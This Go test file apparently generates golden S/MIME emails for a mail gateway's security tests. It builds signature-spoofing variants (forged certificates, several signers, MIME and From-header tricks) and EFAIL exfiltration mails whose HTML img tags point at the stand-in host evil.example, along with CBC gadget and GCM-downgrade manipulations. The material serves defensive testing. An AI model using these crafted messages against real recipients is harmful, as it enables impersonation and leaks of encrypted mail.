package smime

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"gatewayd/crypto/ber"
	"gatewayd/crypto/cms"
	"gatewayd/crypto/entity"
)

// maker writes golden mails.
type maker struct {
	t *testing.T
	cast
	rows []goldenRow
}

func writeGolden(t *testing.T) {
	t.Helper()
	if err := os.RemoveAll(goldenDir); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(goldenDir, 0o755); err != nil {
		t.Fatal(err)
	}
	m := maker{t: t}
	until := goldenTime().AddDate(30, 0, 0)
	m.root = issue("Golden Root", "", newEC(), nil, until)
	m.amt = issue("Bauamt", "amt@bl.example", newEC(), &m.root, until)
	m.eve = issue("Eve", "eve@evil.example", newEC(), &m.root, until)
	m.reader = issue("Reader", "reader@bl.example", newRSA(), &m.root, until)
	for name, id := range map[string]Identity{"root": m.root, "amt": m.amt, "eve": m.eve, "reader": m.reader} {
		cert, key := id.pems()
		put(t, goldenDir, name+".crt", cert)
		put(t, goldenDir, name+".key", key)
	}
	m.fine()
	m.spoofCMS()
	m.spoofSigners()
	m.spoofMIME()
	m.spoofNames()
	m.efailDirect()
	m.efailGadgets()
	m.efailWrapping()
	var b bytes.Buffer
	b.WriteString("file\tencryption\tsignature\tshown\twhy\n")
	for _, r := range m.rows {
		b.WriteString(r.String() + "\n")
	}
	put(t, ".", goldenTable, b.Bytes())
}

// add writes a mail and what is said of it now.
func (m *maker) add(file, why, raw string) {
	m.t.Helper()
	raw = strings.ReplaceAll(strings.ReplaceAll(raw, "\r\n", "\n"), "\n", "\r\n")
	put(m.t, goldenDir, file+".eml", []byte(raw))
	r := judgeGolden(m.t, m.options(), []byte(raw))
	r.file, r.why = file+".eml", why
	m.rows = append(m.rows, r)
}

const (
	fromAmt = "From: Bauamt <amt@bl.example>\r\nTo: reader@bl.example\r\nSubject: Baubewilligung\r\nDate: Mon, 23 Nov 2026 14:00:00 +0000\r\nMIME-Version: 1.0\r\n"
	fromEve = "From: Eve <eve@evil.example>\r\nTo: reader@bl.example\r\nSubject: Baubewilligung\r\nDate: Mon, 23 Nov 2026 14:00:00 +0000\r\nMIME-Version: 1.0\r\n"
	said    = "Content-Type: text/plain\r\n\r\nDie Bewilligung ist erteilt.\r\n"
	forged  = "Content-Type: text/plain\r\n\r\nBitte ueberweisen Sie 10'000 Franken.\r\n"
	private = "Content-Type: text/plain\r\n\r\nDas Kennwort lautet " + secret + ".\r\n"
)

func b64(der []byte) string {
	return string(must(io.ReadAll(entity.Base64Reader(bytes.NewReader(der)))))
}

func (m *maker) detached(by Identity, content string, o cms.SignOptions) []byte {
	o.Time = goldenTime()
	return must(cms.Sign(strings.NewReader(content), *by.Signer(), o))
}

func (m *maker) inside(by Identity, content string) []byte {
	before, after, err := cms.SignAround(strings.NewReader(content), *by.Signer(), cms.SignOptions{Time: goldenTime()})
	if err != nil {
		m.t.Fatal(err)
	}
	return slices.Concat(before, []byte(content), after)
}

// clear is a multipart/signed entity around content with that signature.
func clear(content string, sig []byte) string {
	boundary := "sig"
	for strings.Contains(content, "--"+boundary) {
		boundary = "x" + boundary
	}
	return "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=" + boundary + "\r\n\r\n" +
		"--" + boundary + "\r\n" + content + "\r\n--" + boundary + "\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		b64(sig) + "--" + boundary + "--\r\n"
}

// signed is content signed by somebody, in the open.
func (m *maker) signed(by Identity, content string) string {
	return clear(content, m.detached(by, content, cms.SignOptions{}))
}

// wrapped is an object as an entity.
func wrapped(kind string, der []byte) string {
	return "Content-Type: application/pkcs7-mime; smime-type=" + kind + "; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(der)
}

func (m *maker) sealedDER(content string, with cms.Cipher) []byte {
	var b bytes.Buffer
	o := cms.EncryptOptions{Recipients: []*x509.Certificate{m.reader.Cert}, Cipher: with, PKCS1v15: true}
	if err := cms.Encrypt(&b, strings.NewReader(content), int64(len(content)), o); err != nil {
		m.t.Fatal(err)
	}
	return b.Bytes()
}

func (m *maker) sealed(content string) string {
	return wrapped("enveloped-data", m.sealedDER(content, cms.AES256CBC))
}

func mixed(kind string, parts ...string) string {
	return "Content-Type: multipart/" + kind + "; boundary=outer\r\n\r\n--outer\r\n" + strings.Join(parts, "\r\n--outer\r\n") + "\r\n--outer--\r\n"
}

// fine are the mails that must be good: an attack that is found everywhere is
// found nowhere.
func (m *maker) fine() {
	m.add("fine-clear", "signed in the open", fromAmt+m.signed(m.amt, said))
	m.add("fine-opaque", "signed, content inside", fromAmt+wrapped("signed-data", m.inside(m.amt, said)))
	m.add("fine-sign-encrypt", "signed, then encrypted", fromAmt+m.sealed(m.signed(m.amt, private)))
	m.add("fine-gcm", "encrypted with AES-GCM", fromAmt+wrapped("authEnveloped-data", m.sealedDER(private, cms.AES256GCM)))
	m.add("fine-triple", "triple wrapped", fromAmt+m.signed(m.amt, m.sealed(m.signed(m.amt, private))))
	m.add("fine-preamble", "text in front of the parts, which no reader shows", fromAmt+strings.Replace(m.signed(m.amt, said), "\r\n\r\n--sig", "\r\n\r\nBitte ueberweisen Sie.\r\n--sig", 1))
}

// spoofCMS: eContent confusion (class C1 of the paper), no signers (C3), and
// what the syntax allows else.
func (m *maker) spoofCMS() {
	m.add("spoof-econtent", "the signature brings its own content; shown is another", fromAmt+clear(forged, m.inside(m.amt, said)))
	m.add("spoof-econtent-same", "the signature brings the same content along", fromAmt+clear(said, m.inside(m.amt, said)))
	m.add("spoof-changed", "the content was changed", fromAmt+clear(forged, m.detached(m.amt, said, cms.SignOptions{})))
	none := signedData(oidSequence(), nil, m.amt.Cert.Raw, nil)
	m.add("spoof-no-signer", "a signature without signers, with the certificate", fromAmt+clear(forged, none))
	m.add("spoof-no-signer-opaque", "the same with the content inside", fromAmt+wrapped("signed-data", signedData(oidSequence(), []byte(forged), m.amt.Cert.Raw, nil)))
	m.add("spoof-empty", "an empty signature part", fromAmt+clear(forged, nil))
	m.add("spoof-text-as-signature", "the signature part is text", fromAmt+clear(forged, []byte("good signature")))
	m.add("spoof-cut", "the signature breaks off", fromAmt+clear(said, m.detached(m.amt, said, cms.SignOptions{})[:300]))
	m.add("spoof-attributes", "signed attributes of the authority, passed off as content without attributes", fromAmt+m.attributesAsContent())
}

// oidSequence returns the DER of id-data.
func oidSequence() []byte {
	return must(asn1.Marshal(asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 1}))
}

// signedData builds a SignedData by hand.
func signedData(kind, content, cert []byte, infos []byte) []byte {
	encapsulated := kind
	if content != nil {
		encapsulated = slices.Concat(kind, ber.Wrap(ber.Context0, ber.Wrap(ber.OctetString, content)))
	}
	sha256ID := ber.Wrap(ber.Sequence, must(asn1.Marshal(asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 2, 1})))
	signed := ber.Wrap(ber.Sequence, []byte{2, 1, 1}, ber.Wrap(ber.Set, sha256ID), ber.Wrap(ber.Sequence, encapsulated),
		ber.Wrap(ber.Context0, cert), ber.Wrap(ber.Set, infos))
	return ber.Wrap(ber.Sequence, must(asn1.Marshal(asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 2})), ber.Wrap(ber.Context0, signed))
}

// signerOf cuts the SignerInfo out of a SignedData.
func signerOf(t *testing.T, der []byte) []byte {
	t.Helper()
	r := ber.NewReader(bytes.NewReader(der), ber.Limits{})
	for _, step := range []byte{ber.Sequence, 0, ber.Context0, ber.Sequence, 0, 0, 0, 0, ber.Set} {
		err := r.Skip
		if step != 0 {
			err = func() error { return r.Enter(step) }
		}
		if err := err(); err != nil {
			t.Fatal(err)
		}
	}
	return must(r.Element(1 << 16))
}

// attributesAsContent takes the signature of the authority over its attributes
// and presents it as one without attributes over them (RFC 5652 section 11
// signs both alike).
func (m *maker) attributesAsContent() string {
	info := signerOf(m.t, m.detached(m.amt, said, cms.SignOptions{}))
	var parsed struct {
		Version    int
		Who        asn1.RawValue
		Digest     asn1.RawValue
		Attributes asn1.RawValue `asn1:"tag:0"`
		Method     asn1.RawValue
		Signature  []byte
	}
	if _, err := asn1.Unmarshal(info, &parsed); err != nil {
		m.t.Fatal(err)
	}
	set := slices.Clone(parsed.Attributes.FullBytes)
	set[0] = ber.Set
	plain := ber.Wrap(ber.Sequence, []byte{2, 1, 1}, parsed.Who.FullBytes, parsed.Digest.FullBytes, parsed.Method.FullBytes, ber.Wrap(ber.OctetString, parsed.Signature))
	return wrapped("signed-data", signedData(oidSequence(), set, m.amt.Cert.Raw, plain))
}

// spoofSigners: several signers (C2) and certificates that are not what they
// seem (C4).
func (m *maker) spoofSigners() {
	good := m.detached(m.eve, forged, cms.SignOptions{})
	broken := signerOf(m.t, m.detached(m.amt, said, cms.SignOptions{}))
	certs := slices.Concat(m.amt.Cert.Raw, m.eve.Cert.Raw)
	m.add("spoof-two-signers", "signed by Eve; the authority's signature beside hers is of another content", fromAmt+clear(forged, signedData(oidSequence(), nil, certs, slices.Concat(signerOf(m.t, good), broken))))
	m.add("spoof-two-signers-first", "the same, the authority first", fromAmt+clear(forged, signedData(oidSequence(), nil, certs, slices.Concat(broken, signerOf(m.t, good)))))
	self := issue("Bauamt", "amt@bl.example", newEC(), nil, goldenTime().AddDate(1, 0, 0))
	m.add("spoof-self-signed", "a certificate of the authority that nobody issued", fromAmt+m.signed(self, forged))
	below := issue("Bauamt", "amt@bl.example", newEC(), &m.eve, goldenTime().AddDate(1, 0, 0))
	below.Chain = []*x509.Certificate{m.eve.Cert}
	m.add("spoof-issued-by-eve", "a certificate of the authority that Eve issued", fromAmt+m.signed(below, forged))
	twin := m.twin()
	m.add("spoof-twin", "issuer and serial number of the authority's certificate, another key", fromAmt+m.signed(twin, forged))
	m.add("spoof-twin-both", "the same, with the true certificate beside", fromAmt+clear(forged, signedData(oidSequence(), nil, slices.Concat(m.amt.Cert.Raw, twin.Cert.Raw), signerOf(m.t, m.detached(twin, forged, cms.SignOptions{})))))
	old := issue("Bauamt", "amt@bl.example", newEC(), &m.root, goldenTime().AddDate(0, -1, 0))
	m.add("spoof-expired", "a certificate that has expired", fromAmt+m.signed(old, forged))
	server := m.edited(func(c *x509.Certificate) { c.ExtKeyUsage = []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth} })
	m.add("spoof-server", "a certificate for a web server", fromAmt+m.signed(server, forged))
	agree := m.edited(func(c *x509.Certificate) { c.KeyUsage = x509.KeyUsageKeyAgreement })
	m.add("spoof-encryption-key", "a certificate for encryption", fromAmt+m.signed(agree, forged))
	short := issue("Bauamt", "amt@bl.example", must(rsa.GenerateKey(rand.Reader, 1024)), &m.root, goldenTime().AddDate(1, 0, 0))
	m.add("spoof-short-key", "an RSA key of 1024 bits", fromAmt+m.signed(short, forged))
	m.add("spoof-future", "signed the day after tomorrow", fromAmt+clear(said, must(cms.Sign(strings.NewReader(said), *m.amt.Signer(), cms.SignOptions{Time: goldenTime().Add(48 * time.Hour)}))))
}

// twin is a certificate with issuer and serial number of the authority's.
func (m *maker) twin() Identity {
	key, ca := newEC(), newEC()
	tpl, impostor := *m.amt.Cert, *m.root.Cert
	impostor.PublicKey = ca.Public()
	return Identity{Key: key, Cert: must(x509.ParseCertificate(must(x509.CreateCertificate(rand.Reader, &tpl, &impostor, key.Public(), ca))))}
}

// edited is another certificate of the authority.
func (m *maker) edited(edit func(c *x509.Certificate)) Identity {
	key := newEC()
	tpl := *m.amt.Cert
	tpl.SerialNumber = must(rand.Int(rand.Reader, m.amt.Cert.SerialNumber))
	edit(&tpl)
	return Identity{Key: key, Cert: must(x509.ParseCertificate(must(x509.CreateCertificate(rand.Reader, &tpl, m.root.Cert, key.Public(), m.root.Key))))}
}

// spoofMIME: a true signature somewhere in the message (M1 to M4).
func (m *maker) spoofMIME() {
	signed := m.signed(m.amt, said)
	for _, kind := range []string{"mixed", "related", "alternative", "report"} {
		m.add("spoof-mime-"+kind, "foreign text before the signed part", fromAmt+mixed(kind, forged, signed))
		m.add("spoof-mime-"+kind+"-after", "foreign text behind the signed part", fromAmt+mixed(kind, signed, forged))
	}
	m.add("spoof-mime-opaque", "foreign text before an opaque signature", fromAmt+mixed("mixed", forged, wrapped("signed-data", m.inside(m.amt, said))))
	m.add("spoof-mime-hidden", "the signed part is drawn nowhere", fromAmt+mixed("related; type=\"text/html\"", "Content-Type: text/html\r\n\r\nBitte ueberweisen Sie.<img src=\"cid:x\" style=\"display:none\">\r\n", "Content-ID: <x>\r\n"+signed))
	m.add("spoof-mime-attached", "a signed message of the authority, attached", fromAmt+mixed("mixed", forged, "Content-Type: message/rfc822\r\n\r\n"+fromAmt+signed))
	m.add("spoof-mime-message", "a signed message as the only part", fromAmt+"Content-Type: message/rfc822\r\n\r\n"+fromAmt+signed)
	m.add("spoof-mime-three-parts", "multipart/signed with a part too many", fromAmt+strings.Replace(signed, "--sig--", "--sig\r\n"+forged+"\r\n--sig--", 1))
	m.add("spoof-mime-three-first", "the part too many comes first", fromAmt+strings.Replace(signed, "--sig\r\n", "--sig\r\n"+forged+"\r\n--sig\r\n", 1))
	m.add("spoof-mime-one-part", "multipart/signed without signature", fromAmt+signed[:strings.Index(signed, "\r\n--sig\r\nContent-Type: application/pkcs7")]+"\r\n--sig--\r\n")
	m.add("spoof-mime-two-types", "two Content-Type fields", fromAmt+"Content-Type: text/html\r\n"+signed)
	m.add("spoof-mime-two-boundaries", "two boundary parameters", fromAmt+strings.Replace(signed, "boundary=sig", "boundary=sig; boundary=two", 1)+"--two\r\n"+forged+"\r\n--two--\r\n")
	m.add("spoof-mime-split-boundary", "a boundary in pieces, and another one", fromAmt+strings.Replace(signed, "boundary=sig", "boundary*0=s; boundary*1=ig; boundary=two", 1))
	m.add("spoof-mime-protocol", "OpenPGP's protocol around an S/MIME signature of another content", fromAmt+strings.Replace(clear(forged, m.detached(m.amt, said, cms.SignOptions{})), "application/pkcs7-signature\"", "application/pgp-signature\"", 1))
}

// spoofNames: a true signature by Eve under the authority's name (I1 to I3).
func (m *maker) spoofNames() {
	signed := m.signed(m.eve, forged)
	rest := fromAmt[strings.Index(fromAmt, "To:"):]
	for _, c := range []struct{ name, why, from string }{
		{"from", "Eve's signature under the authority's address", "From: amt@bl.example"},
		{"sender", "the same, with Eve as Sender", "From: amt@bl.example\r\nSender: eve@evil.example"},
		{"display", "the authority's address as name", "From: \"amt@bl.example\" <eve@evil.example>"},
		{"display-name", "name and address of the authority as name", "From: \"Bauamt <amt@bl.example>\" <eve@evil.example>"},
		{"display-encoded", "the same as an encoded word", "From: =?utf-8?q?amt=40bl=2Eexample?= <eve@evil.example>"},
		{"display-wide", "the same with a wide at sign", "From: =?utf-8?q?amt=EF=BC=A0bl=2Eexample?= <eve@evil.example>"},
		{"comment", "the authority's address as a comment", "From: eve@evil.example (amt@bl.example)"},
		{"two-fields", "two From fields", "From: amt@bl.example\r\nFrom: eve@evil.example"},
		{"two-fields-last", "two From fields, the authority last", "From: eve@evil.example\r\nFrom: amt@bl.example"},
		{"two-authors", "two authors", "From: amt@bl.example, eve@evil.example"},
		{"two-authors-last", "two authors, the authority last", "From: eve@evil.example, amt@bl.example"},
		{"two-angles", "two addresses without a comma", "From: <amt@bl.example> <eve@evil.example>"},
		{"group", "a group of both", "From: Amt: amt@bl.example, eve@evil.example;"},
		{"nul", "a NUL behind the authority's address", "From: amt@bl.example\x00 <eve@evil.example>"},
		{"folded", "a fold inside of the address", "From: amt@bl.example\r\n\t<eve@evil.example>"},
		{"invisible", "characters that turn the direction", "From: =?utf-8?q?Bauamt_=E2=80=AEelpmaxe=2Elb=40tma?= <eve@evil.example>"},
		{"none", "no From field", "X-From: amt@bl.example"},
		{"empty", "an empty From field", "From: <>"},
	} {
		m.add("spoof-name-"+c.name, c.why, c.from+"\r\n"+rest+signed)
	}
	m.add("spoof-redated", "an old letter of the authority under a new date", strings.Replace(fromAmt, "23 Nov 2026", "30 Nov 2026", 1)+m.signed(m.amt, said))
	m.add("spoof-inner-amt", "Eve signs what the authority signed, under its name", fromAmt+m.signed(m.eve, m.signed(m.amt, said)))
	m.add("spoof-outer-amt", "the authority's signature around Eve's is of another content", fromAmt+clear(m.signed(m.eve, forged), m.detached(m.amt, said, cms.SignOptions{})))
}

const (
	lure = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
	hook = "Content-Type: text/html\r\n\r\n\">\r\n"
)

// efailDirect: direct exfiltration, and covert content.
func (m *maker) efailDirect() {
	cipherText := m.sealed(private)
	for _, kind := range []string{"mixed", "related", "alternative"} {
		m.add("efail-direct-"+kind, "HTML around the cipher text", fromAmt+mixed(kind, lure, cipherText, hook))
	}
	m.add("efail-direct-signed", "the same, signed by Eve", fromEve+m.signed(m.eve, mixed("mixed", lure, cipherText, hook)))
	m.add("efail-direct-encrypted", "the same, encrypted by Eve", fromEve+m.sealed(mixed("mixed", lure, cipherText, hook)))
	m.add("efail-direct-gcm", "the same around AES-GCM", fromEve+mixed("mixed", lure, wrapped("authEnveloped-data", m.sealedDER(private, cms.AES256GCM)), hook))
	m.add("efail-direct-octet-stream", "the same around cipher text by its name only", fromEve+mixed("mixed", lure, strings.Replace(cipherText, "application/pkcs7-mime; smime-type=enveloped-data", "application/octet-stream", 1), hook))
	m.add("efail-covert-css", "the cipher text hidden under a question", fromEve+mixed("mixed", "Content-Type: text/html\r\n\r\nWann treffen wir uns?<style>*{display:none}</style>\r\n", cipherText))
	m.add("efail-covert-attachment", "the cipher text as an attachment to quote", fromEve+mixed("mixed", "Content-Type: text/plain\r\n\r\nWann treffen wir uns?"+strings.Repeat("\r\n", 200), "Content-Disposition: attachment\r\n"+cipherText))
	m.add("efail-covert-message", "the cipher text in an attached message", fromEve+mixed("mixed", "Content-Type: text/plain\r\n\r\nSiehe unten.\r\n", "Content-Type: message/rfc822\r\n\r\n"+fromAmt+cipherText))
	m.add("efail-covert-root", "an attached message as the only part", fromEve+"Content-Type: message/rfc822\r\n\r\n"+fromAmt+cipherText)
}

// efailGadgets change cipher text.
func (m *maker) efailGadgets() {
	plain := "Content-Type: text/plain\r\n\r\n" + strings.Repeat("x", 100) + " " + secret + "\r\n"
	m.add("efail-gadget", "cipher blocks replaced so that an image address comes out, unsigned", fromAmt+wrapped("enveloped-data", gadget(m.sealedDER(plain, cms.AES256CBC), plain, "Content-Type: te", "<img src=\"//e.x/")))
	inner := m.signed(m.amt, plain)
	m.add("efail-gadget-signed", "the same in what was signed inside", fromAmt+wrapped("enveloped-data", gadget(m.sealedDER(inner, cms.AES256CBC), inner, strings.Repeat("x", 16), "<img src=\"//e.x/")))
	opaque := wrapped("signed-data", m.inside(m.amt, plain))
	m.add("efail-gadget-opaque", "the same in an opaque signature", fromAmt+wrapped("enveloped-data", gadget(m.sealedDER(opaque, cms.AES256CBC), opaque, opaque[len(opaque)-200:len(opaque)-184], "AAAAAAAAAAAAAAAA")))
	flipped := m.sealedDER(private, cms.AES256GCM)
	flipped[len(flipped)-30] ^= 1
	m.add("efail-gcm-changed", "AES-GCM, one bit changed", fromAmt+wrapped("authEnveloped-data", flipped))
	tag := m.sealedDER(private, cms.AES256GCM)
	tag[len(tag)-1] ^= 1
	m.add("efail-gcm-tag", "AES-GCM, the tag changed", fromAmt+wrapped("authEnveloped-data", tag))
	m.add("efail-gcm-as-cbc", "AES-GCM passed off as CBC, which does not prove anything", fromAmt+wrapped("enveloped-data", m.downgraded()))
	whole := m.sealedDER(plain, cms.AES256CBC)
	m.add("efail-cut", "the last block left out", fromAmt+wrapped("enveloped-data", cutBlock(whole)))
	m.add("efail-wrong-key", "the encrypted key changed: no word about its padding", fromAmt+wrapped("authEnveloped-data", otherKey(m.sealedDER(plain, cms.AES256GCM))))
	m.add("efail-broken-off", "the object breaks off", fromAmt+wrapped("enveloped-data", whole[:len(whole)-20]))
}

// gadget replaces a known block of plain text in CBC by another: the block
// before it becomes what nobody knows.
func gadget(der []byte, plain, known, wanted string) []byte {
	at := strings.Index(plain, known) / 16 * 16
	for plain[at:at+16] != known {
		at++ // not on a block border: take the block that is
		if at%16 == 0 {
			known = plain[at : at+16]
		}
	}
	size := (len(plain)/16 + 1) * 16
	out := slices.Clone(der)
	blocks := out[len(out)-size:]
	var previous []byte
	if at == 0 { // the initialisation vector: it stands before the content's header
		iv := bytes.LastIndex(out[:len(out)-size], []byte{4, 16})
		previous = out[iv+2 : iv+18]
	} else {
		previous = blocks[at-16 : at]
	}
	for i := range 16 {
		previous[i] ^= known[i] ^ wanted[i]
	}
	return out
}

// downgraded takes the cipher text of an AuthEnvelopedData into an
// EnvelopedData, with the same encrypted key.
func (m *maker) downgraded() []byte {
	der := m.sealedDER(private+strings.Repeat(" ", -len(private)&15), cms.AES256GCM)
	r := ber.NewReader(bytes.NewReader(der), ber.Limits{})
	for _, id := range []byte{ber.Sequence, 0, ber.Context0, ber.Sequence, 0} {
		if id == 0 {
			must(r.Element(1 << 16))
		} else if err := r.Enter(id); err != nil {
			m.t.Fatal(err)
		}
	}
	recipients := must(r.Element(1 << 16))
	size := len(private) + -len(private)&15
	content := der[len(der)-size-18 : len(der)-18]
	iv := sha256.Sum256(content)
	method := ber.Wrap(ber.Sequence, must(asn1.Marshal(asn1.ObjectIdentifier{2, 16, 840, 1, 101, 3, 4, 1, 42})), ber.Wrap(ber.OctetString, iv[:16]))
	return ber.Wrap(ber.Sequence, must(asn1.Marshal(asn1.ObjectIdentifier{1, 2, 840, 113549, 1, 7, 3})), ber.Wrap(ber.Context0, ber.Wrap(ber.Sequence,
		[]byte{2, 1, 0}, recipients, ber.Wrap(ber.Sequence, oidSequence(), method, ber.Wrap(ber.Implicit0, content)))))
}

// cutBlock leaves the last block out and corrects the lengths.
func cutBlock(der []byte) []byte {
	var walk func(der []byte) []byte
	walk = func(der []byte) []byte {
		var v asn1.RawValue
		rest, err := asn1.Unmarshal(der, &v)
		if err != nil {
			panic(err)
		}
		content := v.Bytes
		if !v.IsCompound {
			return slices.Concat(ber.Wrap(der[0], content[:len(content)-16]), rest)
		}
		var children [][]byte
		for len(content) > 0 {
			var c asn1.RawValue
			next, err := asn1.Unmarshal(content, &c)
			if err != nil {
				panic(err)
			}
			children, content = append(children, c.FullBytes), next
		}
		children[len(children)-1] = walk(children[len(children)-1])
		return ber.Wrap(der[0], children...)
	}
	return walk(der)
}

// otherKey changes the encrypted key: a random one stands in for it, which
// opens nothing (in CBC one time in 256 it would seem to).
func otherKey(der []byte) []byte {
	out := slices.Clone(der)
	at := bytes.Index(out, []byte{4, 0x82, 1, 0}) // the OCTET STRING of 256 octets
	out[at+100] ^= 1
	return out
}

// efailWrapping: what is encrypted belongs to whom? And layers without end.
func (m *maker) efailWrapping() {
	cipherText := m.sealed(private)
	m.add("efail-resigned", "Eve takes the authority's cipher text and signs it as hers", fromEve+m.signed(m.eve, cipherText))
	m.add("efail-resigned-opaque", "the same, opaque", fromEve+wrapped("signed-data", m.inside(m.eve, cipherText)))
	m.add("efail-signed-twice", "two signatures around cipher text", fromEve+m.signed(m.eve, m.signed(m.eve, cipherText)))
	m.add("efail-unsigned", "encrypted under the authority's name, unsigned", fromAmt+cipherText)
	m.add("spoof-encrypted", "signed by Eve under the authority's name, then encrypted", fromAmt+m.sealed(m.signed(m.eve, private)))
	deep := private
	for range 13 {
		deep = m.sealed(deep)
	}
	m.add("efail-deep", "13 layers of encryption", fromEve+deep)
	other := issue("Other", "other@bl.example", newEC(), &m.root, goldenTime().AddDate(1, 0, 0))
	var b bytes.Buffer
	if err := cms.Encrypt(&b, strings.NewReader(private), int64(len(private)), cms.EncryptOptions{Recipients: []*x509.Certificate{other.Cert}}); err != nil {
		m.t.Fatal(err)
	}
	m.add("efail-for-another", "encrypted for somebody else", fromAmt+wrapped("enveloped-data", b.Bytes()))
	m.add("efail-nested-ber", "a million nested elements", fromAmt+wrapped("enveloped-data", bytes.Repeat([]byte{0x30, 0x80}, 20_000)))
	m.add("efail-line-noise", "no object at all", fromAmt+wrapped("enveloped-data", []byte(fmt.Sprint(base64.StdEncoding.EncodeToString([]byte(private))))))
}
